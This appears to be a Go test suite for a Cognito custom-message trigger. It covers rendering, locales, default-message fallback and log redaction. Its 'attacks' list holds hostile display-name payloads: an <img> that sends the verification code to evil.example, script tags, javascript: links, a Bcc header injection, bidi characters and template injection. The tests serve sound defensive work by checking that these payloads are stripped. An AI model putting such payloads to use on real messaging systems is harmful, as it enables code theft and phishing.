package custommessage

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/cognito-triggers/suite/pkg/invoke"
	"github.com/cognito-triggers/suite/pkg/message"
	"github.com/cognito-triggers/suite/pkg/triggers"
)

// TestFixtures: every source, in both locales, with and without email
// customisation. The response holds exactly what the renderer makes of the
// event (read here with the reference decoder), the email fields are null
// when CUSTOMIZE_EMAIL is false, the rest of the event is untouched, every
// output passes message.Check, and the decision line carries the locale and
// lengths but no message text.
func TestFixtures(t *testing.T) {
	r := testRenderer(t)
	for _, customize := range []bool{true, false} {
		cfg := Config{Message: brand, CustomizeEmail: customize}
		var logs bytes.Buffer
		h := handler(t, cfg, r, &logs)
		for _, fx := range fixtures {
			for _, locale := range []string{"en", "zh-CN"} {
				name := fx + "/" + locale
				if !customize {
					name += "/sms-only"
				}
				t.Run(name, func(t *testing.T) {
					in := event(t, fx, setAttrs(map[string]any{"locale": locale}))
					out, err := h.Invoke(context.Background(), in)
					if err != nil {
						t.Fatalf("Invoke: %v", err)
					}
					mi := wantInput(t, in, cfg)
					want, err := r.Render(mi)
					if err != nil {
						t.Fatalf("reference render: %v", err)
					}
					wantResp := map[string]any{"smsMessage": want.SMSMessage, "emailMessage": nil, "emailSubject": nil}
					if customize {
						wantResp["emailMessage"], wantResp["emailSubject"] = want.EmailMessage, want.EmailSubject
					}
					wantEvent := decoded(t, in)
					wantEvent["response"] = wantResp
					if diff := cmp.Diff(wantEvent, decoded(t, out)); diff != "" {
						t.Errorf("returned event (-want +got):\n%s", diff)
					}

					got, emailSet := responseOutput(t, out)
					if emailSet != customize {
						t.Fatalf("email fields set = %v with CUSTOMIZE_EMAIL=%v", emailSet, customize)
					}
					if !customize { // Check wants all three; the email part was checked above
						got.EmailMessage, got.EmailSubject = want.EmailMessage, want.EmailSubject
					}
					if err := message.Check(mi, got); err != nil {
						t.Errorf("message.Check: %v", err)
					}
					if strings.Count(got.SMSMessage, "{####}") != 1 {
						t.Errorf("SMS has %d code placeholders, want 1: %q", strings.Count(got.SMSMessage, "{####}"), got.SMSMessage)
					}
					if hasHan(got.SMSMessage) != (locale == "zh-CN") {
						t.Errorf("locale %s: SMS %q is in the wrong language", locale, got.SMSMessage)
					}
					if customize && !strings.Contains(got.EmailMessage, `<html lang="`+locale+`">`) {
						t.Errorf("locale %s: email is not marked as %s", locale, locale)
					}
					greets := mi.Source == triggers.SourceMessageAdminCreateUser || mi.Source == triggers.SourceMessageForgotPassword ||
						mi.Source == triggers.SourceMessageAuthentication
					for _, person := range []string{"Jane Doe", "John Roe"} {
						if strings.Contains(got.EmailMessage, person) && !greets {
							t.Errorf("%s greets the unverified recipient by name", mi.Source)
						}
					}

					line := lastDecision(t, &logs)
					wantLine := map[string]any{"outcome": OutcomeRendered, "locale": locale,
						"smsLength": float64(utf8.RuneCountInString(got.SMSMessage)), "Rendered": 1.0, "RenderFailures": 0.0}
					if customize {
						wantLine["emailLength"] = float64(utf8.RuneCountInString(got.EmailMessage))
					}
					gotLine := map[string]any{}
					for _, k := range []string{"outcome", "reason", "locale", "smsLength", "emailLength", "Rendered", "RenderFailures"} {
						if v, ok := line[k]; ok {
							gotLine[k] = v
						}
					}
					if diff := cmp.Diff(wantLine, gotLine); diff != "" {
						t.Errorf("decision line (-want +got):\n%s", diff)
					}
					assertCleanLog(t, line)
				})
			}
		}
	}
}

// assertCleanLog: no message text, placeholder, name or address in a line.
func assertCleanLog(t *testing.T, line map[string]any) {
	t.Helper()
	b, _ := json.Marshal(line)
	for _, s := range []string{"{####}", "{username}", "Jane", "John", "jane.doe@", "john.roe@", "Acme", "<", "\\u003c"} {
		if bytes.Contains(b, []byte(s)) {
			t.Errorf("decision line contains %q: %s", s, b)
		}
	}
}

func hasHan(s string) bool {
	for _, r := range s {
		if 0x4e00 <= r && r <= 0x9fff {
			return true
		}
	}
	return false
}

// TestLocale: the locale attribute picks the templates by the renderer's
// rules; clientMetadata, which the app or any API caller chooses, never
// does; DEFAULT_LOCALE covers the rest.
func TestLocale(t *testing.T) {
	zhDefault := brand
	zhDefault.DefaultLocale = "zh-CN"
	rzh, err := message.New(zhDefault)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name     string
		r        *message.Renderer
		locale   any // nil: no locale attribute
		metadata string
		want     string
	}{
		{"exact", nil, "zh-CN", "", "zh-CN"},
		{"underscore and case", nil, "ZH_cn", "", "zh-CN"},
		{"language only", nil, "zh", "", "zh-CN"},
		{"traditional falls back to simplified", nil, "zh-TW", "", "zh-CN"},
		{"regional english", nil, "en-GB", "", "en"},
		{"unsupported language", nil, "fr-FR", "", "en"},
		{"garbage", nil, "<script>", "", "en"},
		{"no attribute", nil, nil, "", "en"},
		{"client metadata ignored", nil, nil, "zh-CN", "en"},
		{"client metadata does not override", nil, "en", "zh-CN", "en"},
		{"configured default", rzh, nil, "", "zh-CN"},
		{"configured default for unsupported", rzh, "fr", "", "zh-CN"},
		{"attribute beats default", rzh, "en-US", "", "en"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := tt.r
			if r == nil {
				r = testRenderer(t)
			}
			var logs bytes.Buffer
			h := handler(t, Config{Message: brand, CustomizeEmail: true}, r, &logs)
			in := event(t, "custommessage-forgot-password.json", func(ev map[string]any) {
				setAttrs(map[string]any{"locale": tt.locale})(ev)
				request(ev)["clientMetadata"] = map[string]any{"locale": tt.metadata}
			})
			out, err := h.Invoke(context.Background(), in)
			if err != nil {
				t.Fatal(err)
			}
			got, _ := responseOutput(t, out)
			if !strings.Contains(got.EmailMessage, `<html lang="`+tt.want+`">`) {
				t.Errorf("email not in %s", tt.want)
			}
			if line := lastDecision(t, &logs); line["locale"] != tt.want {
				t.Errorf("decision line locale = %v, want %s", line["locale"], tt.want)
			}
		})
	}
}

// attacks are hostile display names (threat model A8): markup, the
// code-exfiltrating <img>, bare and hidden links, placeholder copies, header
// injection, bidi tricks. Every "evil" in them is part of a link or markup,
// so none may survive into a message.
var attacks = []string{
	`<img src="https://evil.example/c?x={####}">`,
	`<img src=https://evil.example/{####}>`,
	`Jane <img src="https://evil.example/x">`,
	`</a><a href="https://evil.example">{##Click Here##}</a>`,
	`"><script src=//evil.example/x.js></script>`,
	`javascript:alert('evil.example')`,
	`evil.io/login`,
	`https://evil.io`,
	`Visit evil.com now`,
	`www.evil.example`,
	`evil@evil.example`,
	`{####}`,
	`{username}`,
	`{##Click Here##}`,
	`{{.Code}} {{template "layout" .}}`,
	"Jane\r\nBcc: evil@evil.example",
	"\u202eevil.example\u202c",
	"Jane\u200b.evil\u200bexample",
	"&lt;img src=evil.example&gt;",
	"Ｊａｎｅ <ｉｍｇ ｓｒｃ=evil.example>",
	strings.Repeat("Jane ", 2000) + "evil.example",
	"\x00\x01\x7f<evil.example>",
}

// TestHostileNames: a hostile name, userName or attribute leaves no markup,
// no link, no extra placeholder in any field, and changes nothing but the
// greeting: each field has as many '<', {####} and {username} as with a
// harmless name, and {username} appears only in the invitation.
func TestHostileNames(t *testing.T) {
	r := testRenderer(t)
	h := handler(t, Config{Message: brand, CustomizeEmail: true, LinkVerification: true}, r, nil)
	invoke := func(t *testing.T, in []byte) message.Output {
		t.Helper()
		out, err := h.Invoke(context.Background(), in)
		if err != nil {
			t.Fatalf("Invoke: %v", err)
		}
		if bytes.Equal(out, in) {
			t.Fatalf("hostile input fell back to the default message; want the branded one with the name dropped")
		}
		got, _ := responseOutput(t, out)
		if err := message.Check(wantInput(t, in, Config{LinkVerification: true}), got); err != nil {
			t.Errorf("message.Check: %v", err)
		}
		return got
	}
	for _, fx := range fixtures {
		admin := fx == "custommessage-admin-create-user.json"
		benign := invoke(t, event(t, fx, setAttrs(map[string]any{"given_name": "Jane", "name": "Jane Doe", "nickname": "JD"})))
		for i, attack := range attacks {
			for _, where := range []string{"attributes", "userName"} {
				t.Run(fx+"/"+where+"/"+string(rune('a'+i)), func(t *testing.T) {
					in := event(t, fx, func(ev map[string]any) {
						if where == "userName" {
							ev["userName"] = attack
							return
						}
						setAttrs(map[string]any{"given_name": attack, "name": attack, "nickname": attack, "family_name": attack,
							"preferred_username": attack, "middle_name": attack, "custom:bio": attack, "locale": attack})(ev)
					})
					got := invoke(t, in)
					bad := []string{"<img", "<script", "<a href=\"https://evil", "evil", "javascript:", "\u202e", "\u200b", "{{"}
					if where == "userName" {
						// The userName is the account's own name and goes,
						// percent-encoded, into the link's query only, so its
						// text may be there; its markup may not.
						bad = slices.DeleteFunc(bad, func(s string) bool { return s == "evil" })
					}
					for field, s := range fields(got) {
						for _, bad := range bad {
							if containsFold(s, bad) {
								t.Errorf("%s contains %q", field, bad)
							}
						}
						want := fields(benign)[field]
						for _, sub := range []string{"<", "{####}", "{username}", "{##Click Here##}"} {
							if g, w := strings.Count(s, sub), strings.Count(want, sub); g != w {
								t.Errorf("%s has %d %q, want %d as with a harmless name", field, g, sub, w)
							}
						}
						if !admin && strings.Contains(s, "{username}") {
							t.Errorf("%s contains {username} outside AdminCreateUser", field)
						}
					}
				})
			}
		}
	}
}

// TestDefaultMessage: whenever a message cannot be rendered, the event goes
// back byte for byte as received (its null response fields keep the pool's
// message), the decision line says why and RenderFailures counts it; the
// invocation never fails.
func TestDefaultMessage(t *testing.T) {
	editReq := func(f func(req map[string]any)) func(map[string]any) {
		return func(ev map[string]any) { f(request(ev)) }
	}
	rawRequest := func(req string) func(map[string]any) {
		return func(ev map[string]any) { ev["request"] = json.RawMessage(req) }
	}
	failing := fakeRenderer{renderFn: func(message.Input) (message.Output, error) {
		return message.Output{}, errors.New("message: en/sign-up.html: template: boom")
	}}
	panicking := fakeRenderer{renderFn: func(message.Input) (message.Output, error) { panic("secret {####} Jane") }}
	// A renderer that returns what Check must refuse: no code in the SMS.
	unchecked := fakeRenderer{renderFn: func(in message.Input) (message.Output, error) {
		return message.Output{EmailSubject: "Hi", SMSMessage: "no code here", EmailMessage: "code " + in.CodeParameter}, nil
	}}
	tests := []struct {
		name    string
		fixture string
		edit    func(map[string]any)
		r       Renderer
		cfg     Config
		reason  string
	}{
		{name: "empty code parameter", edit: editReq(func(r map[string]any) { r["codeParameter"] = "" }), reason: ReasonMissingCodeParameter},
		{name: "no code parameter", edit: editReq(func(r map[string]any) { delete(r, "codeParameter") }), reason: ReasonMissingCodeParameter},
		{name: "null code parameter", edit: editReq(func(r map[string]any) { r["codeParameter"] = nil }), reason: ReasonMissingCodeParameter},
		{name: "code parameter not a string", edit: editReq(func(r map[string]any) { r["codeParameter"] = 1234 }), reason: ReasonMalformedRequest},
		{name: "code parameter without braces", edit: editReq(func(r map[string]any) { r["codeParameter"] = "####" }), reason: ReasonInvalidPlaceholder},
		{name: "code parameter with markup", edit: editReq(func(r map[string]any) { r["codeParameter"] = `{"><img src=x>}` }), reason: ReasonInvalidPlaceholder},
		{name: "code parameter with inner brace", edit: editReq(func(r map[string]any) { r["codeParameter"] = "{#{##}" }), reason: ReasonInvalidPlaceholder},
		{name: "invitation without username parameter", fixture: "custommessage-admin-create-user.json",
			edit: editReq(func(r map[string]any) { r["usernameParameter"] = nil }), reason: ReasonInvalidPlaceholder},
		{name: "invitation with unsafe username parameter", fixture: "custommessage-admin-create-user.json",
			edit: editReq(func(r map[string]any) { r["usernameParameter"] = "{<b>}" }), reason: ReasonInvalidPlaceholder},
		{name: "unsafe link parameter", cfg: Config{LinkVerification: true},
			edit: editReq(func(r map[string]any) { r["linkParameter"] = `{##<a href="https://evil.example">##}` }), reason: ReasonInvalidPlaceholder},
		{name: "link parameter not a string", edit: editReq(func(r map[string]any) { r["linkParameter"] = []any{"x"} }), reason: ReasonMalformedRequest},
		{name: "duplicate code parameter", edit: rawRequest(`{"codeParameter":"{####}","codeParameter":"{<img>}"}`), reason: ReasonMalformedRequest},
		{name: "case variant of code parameter", edit: rawRequest(`{"codeParameter":"{####}","CodeParameter":"{##}"}`), reason: ReasonMalformedRequest},
		{name: "duplicate name attribute", edit: rawRequest(`{"userAttributes":{"name":"Jane","name":"x"},"codeParameter":"{####}"}`), reason: ReasonMalformedRequest},
		{name: "attribute not a string", edit: setAttrs(map[string]any{"locale": map[string]any{"x": 1}}), reason: ReasonMalformedRequest},
		{name: "user attributes not an object", edit: editReq(func(r map[string]any) { r["userAttributes"] = "Jane" }), reason: ReasonMalformedRequest},
		{name: "renderer error", r: failing, reason: ReasonRenderFailed},
		{name: "renderer panic", r: panicking, reason: ReasonRenderFailed},
		{name: "renderer output fails Check", r: unchecked, reason: ReasonRenderFailed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := tt.fixture
			if fx == "" {
				fx = "custommessage-signup.json"
			}
			r := tt.r
			if r == nil {
				r = testRenderer(t)
			}
			tt.cfg.Message, tt.cfg.CustomizeEmail = brand, true
			var logs bytes.Buffer
			h := handler(t, tt.cfg, r, &logs)
			in := event(t, fx, tt.edit)
			out, err := h.Invoke(context.Background(), in)
			if err != nil {
				t.Fatalf("Invoke failed (%v): a message must never be blocked", err)
			}
			if !bytes.Equal(out, in) {
				t.Errorf("event changed:\n got %s\nwant %s", out, in)
			}
			line := lastDecision(t, &logs)
			got := map[string]any{"outcome": line["outcome"], "reason": line["reason"], "Rendered": line["Rendered"], "RenderFailures": line["RenderFailures"]}
			want := map[string]any{"outcome": OutcomeDefaultMessage, "reason": tt.reason, "Rendered": 0.0, "RenderFailures": 1.0}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("decision line (-want +got):\n%s", diff)
			}
			if c, _ := line["cause"].(string); c == "" {
				t.Errorf("decision line has no cause: %v", line)
			}
			b, _ := json.Marshal(line)
			for _, s := range []string{"{####}", "Jane", "secret", "<img", "evil"} {
				if bytes.Contains(b, []byte(s)) {
					t.Errorf("decision line contains %q: %s", s, b)
				}
			}
		})
	}
}

// TestMalformedEvents: an event the invocation layer cannot read is refused
// with the generic text, by package invoke; nothing else is.
func TestMalformedEvents(t *testing.T) {
	h := handler(t, Config{Message: brand}, testRenderer(t), nil)
	for name, in := range map[string][]byte{
		"not json":           []byte(`{"version":`),
		"another trigger":    readFixture(t, "presignup-signup.json"),
		"request not object": event(t, "custommessage-signup.json", func(ev map[string]any) { ev["request"] = "x" }),
		"unknown source": event(t, "custommessage-signup.json", func(ev map[string]any) {
			ev["triggerSource"] = "CustomMessage_Whatever"
		}),
	} {
		t.Run(name, func(t *testing.T) {
			out, err := h.Invoke(context.Background(), in)
			ue := triggers.AsUserError(err)
			if ue == nil || out != nil || ue.Message != invoke.MalformedMessage {
				t.Fatalf("got %s, %v; want the invocation layer's refusal", out, err)
			}
		})
	}
}

// TestLinkVerification: the link placeholder goes into the four
// verification emails only when the pool verifies by link, and never into
// an SMS, a subject or the other messages.
func TestLinkVerification(t *testing.T) {
	r := testRenderer(t)
	for _, link := range []bool{false, true} {
		h := handler(t, Config{Message: brand, CustomizeEmail: true, LinkVerification: link}, r, nil)
		for _, fx := range fixtures {
			t.Run(fx, func(t *testing.T) {
				out, err := h.Invoke(context.Background(), event(t, fx, setAttrs(map[string]any{})))
				if err != nil {
					t.Fatal(err)
				}
				got, _ := responseOutput(t, out)
				verification := map[string]bool{"custommessage-signup.json": true, "custommessage-resend-code.json": true,
					"custommessage-update-user-attribute.json": true, "custommessage-verify-user-attribute.json": true}[fx]
				if has := strings.Contains(got.EmailMessage, "{##Click Here##}"); has != (link && verification) {
					t.Errorf("link mode %v: email has the link placeholder = %v", link, has)
				}
				if strings.Contains(got.SMSMessage+got.EmailSubject, "{##Click") {
					t.Errorf("link placeholder in SMS or subject")
				}
			})
		}
	}
}

// TestUnknownAttributesAndBooleans: attributes sent as JSON booleans (seen
// in real events) and unknown attributes do not disturb the decision.
func TestUnknownAttributesAndBooleans(t *testing.T) {
	h := handler(t, Config{Message: brand, CustomizeEmail: true}, testRenderer(t), nil)
	in := event(t, "custommessage-forgot-password.json", setAttrs(map[string]any{"email_verified": true, "custom:x": "y", "given_name": "Zoë"}))
	out, err := h.Invoke(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := responseOutput(t, out)
	if !strings.Contains(got.EmailMessage, "Zoë") {
		t.Errorf("given_name not used for the greeting")
	}
}

// TestNoResponseMember: an event without "response" gets one.
func TestNoResponseMember(t *testing.T) {
	h := handler(t, Config{Message: brand}, testRenderer(t), nil)
	in := event(t, "custommessage-signup.json", func(ev map[string]any) { delete(ev, "response") })
	out, err := h.Invoke(context.Background(), in)
	if err != nil {
		t.Fatal(err)
	}
	got, emailSet := responseOutput(t, out)
	if emailSet || !strings.Contains(got.SMSMessage, "{####}") {
		t.Errorf("response = %+v (email set %v)", got, emailSet)
	}
}
